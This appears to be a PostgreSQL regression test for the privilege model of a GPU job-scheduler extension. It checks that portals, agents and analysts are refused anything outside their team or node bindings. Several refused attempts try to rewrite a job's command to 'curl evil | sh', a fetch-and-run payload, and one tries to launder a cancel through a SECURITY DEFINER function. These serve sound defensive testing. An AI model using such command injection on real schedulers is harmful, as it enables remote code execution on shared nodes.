-- Tenancy: who may do what. Portals act only for the teams they are bound to
-- (add_member), agents only for the nodes they are bound to (add_agent),
-- analysts read, operators do everything. No role but the extension's owner
-- has any privilege on the tables. Every refusal shows its SQLSTATE, message,
-- detail and hint and proves that it changed nothing (no row, no event, no
-- sequence value); every allowed call is shown succeeding.
--
-- Roles are cluster-wide: this test's roles are named gs60_* and dropped at
-- the end.
SET client_min_messages = warning;
CREATE EXTENSION gangsched CASCADE;
RESET client_min_messages;

-- Fingerprint of everything the extension stores: each table's rows and each
-- sequence's position.
CREATE FUNCTION pg_temp.fingerprint() RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    r   record;
    h   text;
    acc text := '';
BEGIN
    FOR r IN SELECT c.oid::regclass AS rel, c.relkind FROM pg_class c
              WHERE c.relnamespace = 'gangsched'::regnamespace AND c.relkind IN ('r', 'S')
              ORDER BY c.relname
    LOOP
        IF r.relkind = 'S' THEN
            EXECUTE format('SELECT last_value || '':'' || is_called FROM %s', r.rel) INTO h;
        ELSE
            EXECUTE format('SELECT count(*) || '':'' || COALESCE(md5(string_agg(t::text, ''|'' ORDER BY t::text)), '''') FROM %s t', r.rel) INTO h;
        END IF;
        acc := acc || r.rel || '=' || h || ';';
    END LOOP;
    RETURN acc;
END $$;

-- Run a statement as role `who` (SET ROLE) that must be refused; report its
-- SQLSTATE, message, detail and hint as a NOTICE, and whether anything
-- changed (the fingerprint is taken as the superuser, before and after).
CREATE PROCEDURE pg_temp.refused(who name, cmd text) LANGUAGE plpgsql AS $$
DECLARE
    before text := pg_temp.fingerprint();
    st     text;
    msg    text;
    det    text;
    hnt    text;
BEGIN
    BEGIN
        EXECUTE format('SET ROLE %I', who);
        EXECUTE cmd;
        RESET ROLE;
        RAISE NOTICE 'ACCEPTED, but it should have been refused';
    EXCEPTION WHEN OTHERS THEN
        GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, msg = MESSAGE_TEXT,
                                det = PG_EXCEPTION_DETAIL, hnt = PG_EXCEPTION_HINT;
        IF det <> '' AND hnt <> '' THEN
            RAISE NOTICE '%: %', st, msg USING DETAIL = det, HINT = hnt;
        ELSIF det <> '' THEN
            RAISE NOTICE '%: %', st, msg USING DETAIL = det;
        ELSIF hnt <> '' THEN
            RAISE NOTICE '%: %', st, msg USING HINT = hnt;
        ELSE
            RAISE NOTICE '%: %', st, msg;
        END IF;
    END;
    RESET ROLE;
    IF pg_temp.fingerprint() IS DISTINCT FROM before THEN
        RAISE NOTICE 'STATE CHANGED by a refused call';
    END IF;
END $$;

/* ---------------- the roles ---------------- */

-- The install script created the four group roles, without LOGIN.
SELECT rolname, rolcanlogin, rolsuper, rolinherit FROM pg_roles
 WHERE rolname IN ('gangsched_operator', 'gangsched_portal', 'gangsched_agent', 'gangsched_analyst')
 ORDER BY rolname;
-- PUBLIC may execute none of gangsched's functions and read none of its
-- relations.
SELECT count(*) AS public_executable FROM pg_proc p
 WHERE p.pronamespace = 'gangsched'::regnamespace
   AND has_function_privilege('public', p.oid, 'EXECUTE')
   AND p.proname NOT LIKE '\_%';
SELECT count(*) AS public_readable FROM pg_class c
 WHERE c.relnamespace = 'gangsched'::regnamespace AND c.relkind IN ('r', 'v', 'S')
   AND has_table_privilege('public', c.oid, 'SELECT');
-- The group roles have no privilege on any table (views only).
SELECT r.rolname, c.relname, c.relkind FROM pg_class c
 CROSS JOIN pg_roles r
 WHERE c.relnamespace = 'gangsched'::regnamespace AND c.relkind = 'r'
   AND r.rolname IN ('gangsched_operator', 'gangsched_portal', 'gangsched_agent', 'gangsched_analyst')
   AND (has_table_privilege(r.oid, c.oid, 'SELECT') OR has_table_privilege(r.oid, c.oid, 'INSERT')
        OR has_table_privilege(r.oid, c.oid, 'UPDATE') OR has_table_privilege(r.oid, c.oid, 'DELETE'))
 ORDER BY 1, 2;

-- This test's roles: an operator, portals of team vision (pv), team nlp (pn)
-- and of both (pb), a group role bound to vision (grp) and a member of it
-- (pm), agents of nodes n1 (a1) and n2 (a2), an analyst and a role with no
-- binding at all.
-- (roles left behind by an interrupted run are dropped first)
DO $$
DECLARE
    r name;
BEGIN
    FOR r IN SELECT rolname FROM pg_roles WHERE rolname LIKE 'gs60\_%' ORDER BY rolname DESC LOOP
        EXECUTE format('DROP OWNED BY %I', r);
        EXECUTE format('DROP ROLE %I', r);
    END LOOP;
END $$;
CREATE ROLE gs60_op;
CREATE ROLE gs60_pv;
CREATE ROLE gs60_pn;
CREATE ROLE gs60_pb;
CREATE ROLE gs60_grp;
CREATE ROLE gs60_pm IN ROLE gs60_grp;
CREATE ROLE gs60_a1;
CREATE ROLE gs60_a2;
CREATE ROLE gs60_an;
CREATE ROLE gs60_nobody;
GRANT gangsched_operator TO gs60_op;
GRANT gangsched_analyst TO gs60_an;
GRANT USAGE ON SCHEMA gangsched TO gs60_nobody;

/* ---------------- the cluster, built by the operator ---------------- */

SET ROLE gs60_op;
SELECT gangsched.set_topology_levels(ARRAY['rack']);
SELECT gangsched.add_pool('gpu', 'reserved');
SELECT gangsched.add_node('n1', 'gpu', 'r1', 64, 512, 100, 8, 'a100', 80);
SELECT gangsched.add_node('n2', 'gpu', 'r1', 64, 512, 100, 8, 'a100', 80);
SELECT gangsched.add_team('vision'), gangsched.add_team('nlp');
SELECT gangsched.set_quota('vision', 'gpu', 8), gangsched.set_quota('nlp', 'gpu', 8);
SELECT gangsched.cache_dataset('n1', 'imagenet');
SELECT gangsched.evict_dataset('n1', 'imagenet');
RESET ROLE;

-- Inventory and policy functions are the operator's alone.
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.add_team('mine')$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.add_pool('p', 'reserved')$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.add_node('n9', 'gpu', 'r1', 1, 1, 1, 1, 'x', 1)$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.set_quota('vision', 'gpu', 64)$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.set_topology_levels(ARRAY['rack'])$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.cache_dataset('n1', 'imagenet')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.evict_dataset('n1', 'imagenet')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.check_invariants()$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.worker_status()$$);

/* ---------------- bindings ---------------- */

SET ROLE gs60_op;
SELECT gangsched.add_member('gs60_pv', 'vision');
SELECT gangsched.add_member('gs60_pn', 'nlp');
SELECT gangsched.add_member('gs60_pb', 'vision'), gangsched.add_member('gs60_pb', 'nlp');
SELECT gangsched.add_member('gs60_grp', 'vision');
SELECT gangsched.add_agent('gs60_a1', 'n1');
SELECT gangsched.add_agent('gs60_a2', 'n2');
SELECT role, kind, team, node FROM gangsched.bindings ORDER BY kind, role, team, node;
RESET ROLE;
-- add_member made the role a portal, add_agent an agent
SELECT r.rolname, pg_has_role(r.oid, 'gangsched_portal', 'MEMBER') AS portal,
       pg_has_role(r.oid, 'gangsched_agent', 'MEMBER') AS agent
  FROM pg_roles r WHERE r.rolname LIKE 'gs60\_%' ORDER BY 1;
-- unknown roles, teams and nodes
CALL pg_temp.refused('gs60_op', $$SELECT gangsched.add_member('gs60_no_such_role', 'vision')$$);
CALL pg_temp.refused('gs60_op', $$SELECT gangsched.add_member('gs60_pv', 'no_such_team')$$);
CALL pg_temp.refused('gs60_op', $$SELECT gangsched.add_agent('gs60_a1', 'n9')$$);
-- Only operators bind: nobody binds themselves or others.
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.add_member('gs60_pv', 'nlp')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.add_agent('gs60_a1', 'n2')$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.add_member('gs60_an', 'vision')$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.add_agent('gs60_nobody', 'n1')$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.remove_member('gs60_pv', 'vision')$$);
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.remove_agent('gs60_a1', 'n1')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.bindings$$);
-- nor GRANTs itself a group role
CALL pg_temp.refused('gs60_pv', $$GRANT gangsched_operator TO gs60_pv$$);
-- and the binding tables are not writable
CALL pg_temp.refused('gs60_pv', $$INSERT INTO gangsched.members SELECT 'gs60_pv'::regrole::oid, id FROM gangsched.teams$$);
CALL pg_temp.refused('gs60_a1', $$INSERT INTO gangsched.agents SELECT 'gs60_a1'::regrole::oid, id FROM gangsched.nodes$$);

/* ---------------- portals submit for their own teams only ---------------- */

-- Placements are made deterministic by draining the other node.
SET ROLE gs60_op;
SELECT gangsched.set_node_state('n2', 'draining');
RESET ROLE;
SET ROLE gs60_pv;
SELECT gangsched.submit('vision', 1, 8, name => 'vision-a', command => 'echo vision secret');   -- job 1
RESET ROLE;
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.submit('nlp', 1, 1, command => 'echo pwned')$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.submit('vision', 1, 1, command => 'echo pwned')$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.submit('vision', 1, 1)$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.submit('vision', 1, 1)$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.submit('vision', 1, 1)$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.submit('no_such_team', 1, 1)$$);
-- a portal does not run rounds
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.run_round()$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.run_round()$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.run_round()$$);
SET ROLE gs60_op;
SELECT ran, placed FROM gangsched.run_round();
SELECT gangsched.set_node_state('n2', 'up'), gangsched.set_node_state('n1', 'draining');
RESET ROLE;
SET ROLE gs60_pn;
SELECT gangsched.submit('nlp', 1, 8, name => 'nlp-b', command => 'echo nlp secret');        -- job 2
RESET ROLE;
SET ROLE gs60_op;
SELECT ran, placed FROM gangsched.run_round();
SELECT gangsched.set_node_state('n1', 'up');
RESET ROLE;
-- a member of a bound group role acts for its team, also under SET SESSION
-- AUTHORIZATION; a portal of two teams submits for both
SET SESSION AUTHORIZATION gs60_pm;
SELECT gangsched.submit('vision', 2, 8, name => 'vision-c');                                 -- job 3 (pending)
RESET SESSION AUTHORIZATION;
SET ROLE gs60_pb;
SELECT gangsched.submit('nlp', 2, 8, name => 'nlp-d');                                       -- job 4 (pending)
RESET ROLE;
SELECT job, team, name, state FROM gangsched.jobs ORDER BY job;
SELECT job, node FROM gangsched.placements ORDER BY job;

/* ---------------- what each role sees ---------------- */

-- a portal sees its own teams' jobs (with their commands) and no other's
SET ROLE gs60_pv;
SELECT job, team, name, state, command FROM gangsched.jobs ORDER BY job;
SELECT job, node FROM gangsched.placements ORDER BY job;
SELECT job, team FROM gangsched.queue ORDER BY position;
SELECT team, pool, nominal_gpus FROM gangsched.team_shares ORDER BY team;
SELECT count(*) > 0 AS explained FROM gangsched.why_pending(3);
RESET ROLE;
SET ROLE gs60_pn;
SELECT job, team, name, state, command FROM gangsched.jobs ORDER BY job;
SELECT job, node FROM gangsched.placements ORDER BY job;
SELECT job, team FROM gangsched.queue ORDER BY position;
RESET ROLE;
SET ROLE gs60_pb;
SELECT job, team, name FROM gangsched.jobs ORDER BY job;
RESET ROLE;
SET ROLE gs60_pm;
SELECT job, team, name FROM gangsched.jobs ORDER BY job;
RESET ROLE;
-- why_pending explains only the caller's teams' jobs
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.why_pending(3)$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.why_pending(3)$$);
-- an analyst sees every job, without its command
SET ROLE gs60_an;
SELECT job, team, name, state, command FROM gangsched.jobs ORDER BY job;
SELECT count(*) AS commands_shown FROM gangsched.jobs WHERE command IS NOT NULL;
SELECT team, pool FROM gangsched.team_shares ORDER BY team;
RESET ROLE;
-- the tables themselves are closed to every role: no reading others'
-- commands around the views
CALL pg_temp.refused('gs60_pn', $$SELECT command FROM gangsched.gangs WHERE id = 1$$);
CALL pg_temp.refused('gs60_an', $$SELECT command FROM gangsched.gangs$$);
CALL pg_temp.refused('gs60_a2', $$SELECT command FROM gangsched.gangs$$);
CALL pg_temp.refused('gs60_pn', $$SELECT * FROM gangsched.events$$);
CALL pg_temp.refused('gs60_pn', $$SELECT * FROM gangsched.allocations$$);
-- views for other roles are closed too
CALL pg_temp.refused('gs60_nobody', $$SELECT * FROM gangsched.jobs$$);
CALL pg_temp.refused('gs60_a1', $$SELECT * FROM gangsched.jobs$$);
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.allocation_history$$);
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.event_log$$);

/* ---------------- agents act for their own nodes only ---------------- */

SET ROLE gs60_a1;
SELECT * FROM gangsched.node_channel('n1');
SELECT job, action, state, worker, command FROM gangsched.node_work('n1');
SELECT gangsched.node_heartbeat('n1');
RESET ROLE;
SET ROLE gs60_a2;
SELECT job, action, state, worker, command FROM gangsched.node_work('n2');
RESET ROLE;
-- another node's work (and its job's command), heartbeat, channel
CALL pg_temp.refused('gs60_a2', $$SELECT * FROM gangsched.node_work('n1')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.node_heartbeat('n2')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.node_channel('n2')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.node_work('n1')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.node_heartbeat('n1')$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.node_heartbeat('n1')$$);
-- starting, checkpointing, finishing and releasing others' jobs
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.job_started(1, 'n1')$$);
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.job_started(1, 'n2')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.job_started(2, 'n2')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.job_started(2, 'n1')$$);
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.job_checkpointed(1)$$);
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.job_finished(1, false, 'killed by a2')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.job_released(2, false)$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.job_finished(3, true)$$);
-- portals and analysts are no agents: not even for their own team's job
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.job_started(1, 'n1')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.job_finished(1, true, 'forged')$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.job_finished(1, false, 'forged')$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.job_released(2, false)$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.job_checkpointed(1)$$);
-- agents set no node state, and change no job otherwise
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.set_node_state('n2', 'down')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.set_node_state('n1', 'down')$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.cancel(2)$$);
CALL pg_temp.refused('gs60_a1', $$SELECT gangsched.submit('nlp', 1, 1)$$);
-- the bound agents do their own jobs
SET ROLE gs60_a1;
SELECT gangsched.job_started(1, 'n1');
SELECT gangsched.job_checkpointed(1);
RESET ROLE;
SET ROLE gs60_a2;
SELECT gangsched.job_started(2, 'n2');
RESET ROLE;
SELECT job, state FROM gangsched.jobs WHERE job IN (1, 2) ORDER BY job;

/* ---------------- cancel ---------------- */

CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.cancel(1)$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.cancel(3)$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.cancel(2)$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.cancel(4)$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.cancel(1)$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT gangsched.cancel(1)$$);
-- a tenant's own SECURITY DEFINER function calls gangsched as its owner
-- (pn), whoever calls it: pv cannot launder a cancel of a vision job through
-- it, and pn's function cannot cancel vision's jobs either
CREATE FUNCTION public.gs60_cancel_as_pn(j bigint) RETURNS void
LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog AS $$ SELECT gangsched.cancel(j) $$;
ALTER FUNCTION public.gs60_cancel_as_pn(bigint) OWNER TO gs60_pn;
CALL pg_temp.refused('gs60_pv', $$SELECT public.gs60_cancel_as_pn(3)$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT public.gs60_cancel_as_pn(1)$$);
-- but through it anyone cancels pn's own team's job: PostgreSQL's own rule
-- for a SECURITY DEFINER function (its owner granted it to PUBLIC)
SET ROLE gs60_nobody;
SELECT public.gs60_cancel_as_pn(4);
RESET ROLE;
DROP FUNCTION public.gs60_cancel_as_pn(bigint);
SET ROLE gs60_pm;
SELECT gangsched.cancel(3);
RESET ROLE;
SELECT job, state FROM gangsched.jobs WHERE job IN (3, 4) ORDER BY job;

/* ---------------- direct table writes bypass nothing ---------------- */

-- a portal rewrites another team's placed job's command (its agent would
-- run it with sh -c)
CALL pg_temp.refused('gs60_pn', $$UPDATE gangsched.gangs SET command = 'curl evil | sh' WHERE id = 1$$);
CALL pg_temp.refused('gs60_pv', $$UPDATE gangsched.gangs SET command = 'curl evil | sh' WHERE id = 1$$);
CALL pg_temp.refused('gs60_pn', $$UPDATE gangsched.jobs SET command = 'curl evil | sh' WHERE job = 2$$);
CALL pg_temp.refused('gs60_a1', $$UPDATE gangsched.gangs SET command = 'curl evil | sh'$$);
CALL pg_temp.refused('gs60_an', $$UPDATE gangsched.gangs SET priority = 1000$$);
-- freeing capacity, inventing GPUs, placing by hand
CALL pg_temp.refused('gs60_pv', $$DELETE FROM gangsched.held_slots$$);
CALL pg_temp.refused('gs60_a1', $$DELETE FROM gangsched.held_slots$$);
CALL pg_temp.refused('gs60_a1', $$UPDATE gangsched.nodes SET gpus = 64$$);
CALL pg_temp.refused('gs60_pv', $$UPDATE gangsched.nodes SET gpus = 64 WHERE name = 'n1'$$);
CALL pg_temp.refused('gs60_pn', $$INSERT INTO gangsched.allocations (job, worker, team_id, node_id, devices, first_slice, slices, gpus, cpus, mem_gb, net_gbps, borrowed, during)
                                 VALUES (2, 1, 2, 1, ARRAY[0], 0, 1, 1, 0, 0, 0, false, tstzrange(now(), NULL))$$);
CALL pg_temp.refused('gs60_pn', $$UPDATE gangsched.quotas SET gpus = 1000$$);
CALL pg_temp.refused('gs60_pn', $$UPDATE gangsched.teams SET weight = 1000 WHERE name = 'nlp'$$);
CALL pg_temp.refused('gs60_pn', $$DELETE FROM gangsched.gangs WHERE id = 1$$);
CALL pg_temp.refused('gs60_an', $$INSERT INTO gangsched.events (at, kind, reason) VALUES (now(), 'placed', 'forged')$$);
CALL pg_temp.refused('gs60_nobody', $$TRUNCATE gangsched.held_slots$$);
CALL pg_temp.refused('gs60_op', $$UPDATE gangsched.nodes SET gpus = 64$$);
-- nor can a tenant add objects to gangsched's schema
CALL pg_temp.refused('gs60_pv', $$CREATE FUNCTION gangsched.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT now()'$$);
CALL pg_temp.refused('gs60_pv', $$CREATE TABLE gangsched.mine (x int)$$);

/* ---------------- settings are the operator's ---------------- */

-- the clock and every time rule and round-shaping setting: a portal can set
-- none of them (not even to its current value), in a session, in a
-- transaction, through set_config or on its own role
DO $$
DECLARE
    s   text;
    st  text;
    msg text;
BEGIN
    FOREACH s IN ARRAY ARRAY['gangsched.clock_override', 'gangsched.start_timeout', 'gangsched.default_queue_timeout',
                             'gangsched.min_runtime', 'gangsched.default_grace', 'gangsched.max_grace',
                             'gangsched.restart_cost', 'gangsched.queue_order', 'gangsched.preemption',
                             'gangsched.backfill', 'gangsched.backfill_with_time', 'gangsched.fair_preemption',
                             'gangsched.fair_preemption_delay',
                             'gangsched.team_order', 'gangsched.las_thresholds', 'gangsched.las_promote_factor']
    LOOP
        BEGIN
            SET ROLE gs60_pv;
            PERFORM set_config(s, current_setting(s), false);
            RAISE NOTICE '%: ACCEPTED', s;
        EXCEPTION WHEN OTHERS THEN
            GET STACKED DIAGNOSTICS st = RETURNED_SQLSTATE, msg = MESSAGE_TEXT;
            RAISE NOTICE '%: %', st, msg;
        END;
        RESET ROLE;
        SELECT context INTO st FROM pg_settings WHERE name = s;
        RAISE NOTICE '% is %', s, st;
    END LOOP;
END $$;
CALL pg_temp.refused('gs60_pv', $$SET gangsched.clock_override = '2000-01-01 00:00:00+00'$$);
CALL pg_temp.refused('gs60_pv', $$SET LOCAL gangsched.min_runtime = 0$$);
CALL pg_temp.refused('gs60_a1', $$SET gangsched.clock_override = '2100-01-01 00:00:00+00'$$);
CALL pg_temp.refused('gs60_a1', $$SET gangsched.start_timeout = 1$$);
CALL pg_temp.refused('gs60_an', $$SET gangsched.preemption = off$$);
CALL pg_temp.refused('gs60_pv', $$ALTER ROLE gs60_pv SET gangsched.clock_override = '2000-01-01 00:00:00+00'$$);
-- the operator may (GRANT SET ON PARAMETER)
SET ROLE gs60_op;
SET gangsched.clock_override = '2030-01-01 00:00:00+00';
SELECT gangsched.now();
RESET gangsched.clock_override;
SET gangsched.min_runtime = 0;
RESET gangsched.min_runtime;
RESET ROLE;

/* ---------------- agents finish their jobs; events name the actor ---------------- */

SET ROLE gs60_a1;
SELECT gangsched.job_finished(1, true, 'exit 0');
RESET ROLE;
SET ROLE gs60_op;
SELECT gangsched.set_node_state('n1', 'draining');
SELECT gangsched.set_node_state('n1', 'up');
SELECT gangsched.cancel(2);
SELECT gangsched.set_quota('nlp', 'gpu', 0);
SELECT gangsched.set_node_state('n2', 'draining');
RESET ROLE;
-- a borrowed job of nlp's on n1 (job 5) is preempted for vision's job 6;
-- only n1's agent releases it
SET ROLE gs60_pn;
SELECT gangsched.submit('nlp', 1, 8, name => 'nlp-borrows', preemptible => true);           -- job 5
RESET ROLE;
SET ROLE gs60_op;
SELECT ran, placed FROM gangsched.run_round();
RESET ROLE;
SET ROLE gs60_a1;
SELECT gangsched.job_started(5, 'n1');
RESET ROLE;
SET ROLE gs60_pv;
SELECT gangsched.submit('vision', 1, 8, name => 'vision-reclaims');                          -- job 6
RESET ROLE;
SET ROLE gs60_op;
SET gangsched.min_runtime = 0;
SELECT ran, placed, preempted FROM gangsched.run_round();
RESET gangsched.min_runtime;
RESET ROLE;
SELECT job, state, borrowed FROM gangsched.jobs WHERE job IN (5, 6) ORDER BY job;
-- the victim's reason names its preemptor: the operator and an analyst
-- see job 6, nlp's portal sees "a job of another team" (vision's)
SELECT job, reason FROM gangsched.jobs WHERE job = 5;
SET ROLE gs60_pn;
SELECT job, reason FROM gangsched.jobs WHERE job = 5;
RESET ROLE;
SET ROLE gs60_an;
SELECT job, reason FROM gangsched.jobs WHERE job = 5;
RESET ROLE;
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.job_released(5, true)$$);
CALL pg_temp.refused('gs60_pn', $$SELECT gangsched.job_released(5, true)$$);
SET ROLE gs60_a1;
SELECT gangsched.job_released(5, true);
SELECT gangsched.job_started(6, 'n1');
SELECT gangsched.job_finished(6, true);
RESET ROLE;
SET ROLE gs60_pn;
SELECT job, state, reason FROM gangsched.jobs WHERE job = 5;
RESET ROLE;
SET ROLE gs60_op;
SELECT gangsched.set_node_state('n2', 'up');
RESET ROLE;
SELECT job, state, message FROM gangsched.jobs ORDER BY job;
-- every event names the role that acted
SELECT id, kind, job, actor FROM gangsched.events ORDER BY id;
SELECT count(*) AS events_without_actor FROM gangsched.events WHERE actor IS NULL;

/* ---------------- analysts ---------------- */

SET ROLE gs60_an;
SELECT count(*) >= 0 AS usage_ok FROM gangsched.usage(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) >= 0 AS utilization_ok FROM gangsched.utilization(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) >= 0 AS snapshot_ok FROM gangsched.snapshot(now());
SELECT count(*) >= 0 AS queue_waits_ok FROM gangsched.queue_waits(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) >= 0 AS preemption_summary_ok FROM gangsched.preemption_summary(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) >= 0 AS queue_depth_ok FROM gangsched.queue_depth(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) >= 0 AS time_limit_use_ok FROM gangsched.time_limit_use(now() - interval '1 day', now() + interval '1 hour');
SELECT count(*) > 0 AS allocation_history_ok FROM gangsched.allocation_history;
SELECT count(*) > 0 AS event_log_ok FROM gangsched.event_log;
-- the scheduler's clock: windows relative to it (virtual in tests)
SELECT gangsched.now() IS NOT NULL AS clock_ok, count(*) >= 0 AS usage_on_clock_ok
  FROM gangsched.usage(gangsched.now() - interval '1 day', gangsched.now());
RESET ROLE;
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.usage(now() - interval '1 day', now())$$);
CALL pg_temp.refused('gs60_a1', $$SELECT * FROM gangsched.snapshot(now())$$);
CALL pg_temp.refused('gs60_nobody', $$SELECT * FROM gangsched.queue_depth(now() - interval '1 day', now())$$);
CALL pg_temp.refused('gs60_pv', $$SELECT * FROM gangsched.time_limit_use(now() - interval '1 day', now())$$);
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.set_team_time_limits('vision', '1 hour')$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.set_team_time_limits('vision', '1 hour')$$);

/* ---------------- removing bindings ---------------- */

SET ROLE gs60_op;
SELECT gangsched.remove_member('gs60_pv', 'vision');
SELECT gangsched.remove_member('gs60_pb', 'vision');
SELECT gangsched.remove_agent('gs60_a2', 'n2');
RESET ROLE;
-- pv has no team left and is no portal any more; pb is still nlp's portal
SELECT r.rolname, pg_has_role(r.oid, 'gangsched_portal', 'MEMBER') AS portal,
       pg_has_role(r.oid, 'gangsched_agent', 'MEMBER') AS agent
  FROM pg_roles r WHERE r.rolname IN ('gs60_pv', 'gs60_pb', 'gs60_a2') ORDER BY 1;
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.submit('vision', 1, 1)$$);
CALL pg_temp.refused('gs60_pb', $$SELECT gangsched.submit('vision', 1, 1)$$);
CALL pg_temp.refused('gs60_a2', $$SELECT gangsched.node_heartbeat('n2')$$);
-- a role keeping gangsched_portal by a direct GRANT is still bound to no team
GRANT gangsched_portal TO gs60_pv;
CALL pg_temp.refused('gs60_pv', $$SELECT gangsched.submit('vision', 1, 1)$$);
SET ROLE gs60_pv;
SELECT count(*) AS jobs_seen FROM gangsched.jobs;
RESET ROLE;
SET ROLE gs60_pb;
SELECT gangsched.submit('nlp', 1, 1, name => 'still nlp');
RESET ROLE;

/* ---------------- team trees ---------------- */

-- A role bound to an inner team acts for its subtree: pm (through its
-- group grp) bound to dept submits to dept's leaves and sees their jobs;
-- dept itself takes no jobs (55S01); nlp is not in its subtree. The tree
-- calls are the operator's; a refused one changes nothing.
SET ROLE gs60_op;
SELECT gangsched.add_team('dept') > 0 AS dept, gangsched.add_team('dept-a', 1, 'dept') > 0 AS dept_a,
       gangsched.add_team('dept-b', 1, 'dept') > 0 AS dept_b;
SELECT gangsched.add_member('gs60_grp', 'dept');
RESET ROLE;
SET ROLE gs60_pm;
SELECT gangsched.submit('dept-a', 1, 1, name => 'pm in dept-a') > 0 AS submitted;
SELECT gangsched.submit('dept-b', 1, 1, name => 'pm in dept-b') > 0 AS submitted;
SELECT team, name FROM gangsched.jobs WHERE team LIKE 'dept%' ORDER BY team;
SELECT team, path, parent FROM gangsched.queue WHERE team LIKE 'dept%' ORDER BY team;
RESET ROLE;
CALL pg_temp.refused('gs60_pm', $$SELECT gangsched.submit('dept', 1, 1)$$);
CALL pg_temp.refused('gs60_pm', $$SELECT gangsched.submit('nlp', 1, 1)$$);
CALL pg_temp.refused('gs60_pb', $$SELECT gangsched.submit('dept-a', 1, 1)$$);
CALL pg_temp.refused('gs60_pm', $$SELECT gangsched.set_team_parent('dept-a', NULL)$$);
CALL pg_temp.refused('gs60_an', $$SELECT gangsched.add_team('x', 1, 'dept')$$);
-- pb (nlp's portal) sees none of dept's jobs
SET ROLE gs60_pb;
SELECT count(*) AS dept_jobs_seen FROM gangsched.jobs WHERE team LIKE 'dept%';
RESET ROLE;
-- moved out of dept, dept-b is no longer pm's
SET ROLE gs60_op;
SELECT gangsched.set_team_parent('dept-b', NULL);
RESET ROLE;
CALL pg_temp.refused('gs60_pm', $$SELECT gangsched.submit('dept-b', 1, 1)$$);
SET ROLE gs60_pm;
SELECT team FROM gangsched.jobs WHERE team LIKE 'dept%' ORDER BY team;
RESET ROLE;

/* ---------------- the end ---------------- */

-- invariant 7 reports privileges granted outside the model: the test's own
-- USAGE for gs60_nobody, and a table privilege given to a portal
GRANT UPDATE ON gangsched.gangs TO gs60_pv;
SELECT invariant, detail FROM gangsched.check_invariants() WHERE invariant = 7 ORDER BY detail;
REVOKE UPDATE ON gangsched.gangs FROM gs60_pv;
REVOKE USAGE ON SCHEMA gangsched FROM gs60_nobody;
-- invariant 6: a node's GPUs changed behind the API (as only the owner can)
BEGIN;
UPDATE gangsched.nodes SET gpus = 64 WHERE name = 'n1';
SELECT invariant, node, detail FROM gangsched.check_invariants() WHERE invariant = 6 ORDER BY detail;
ROLLBACK;
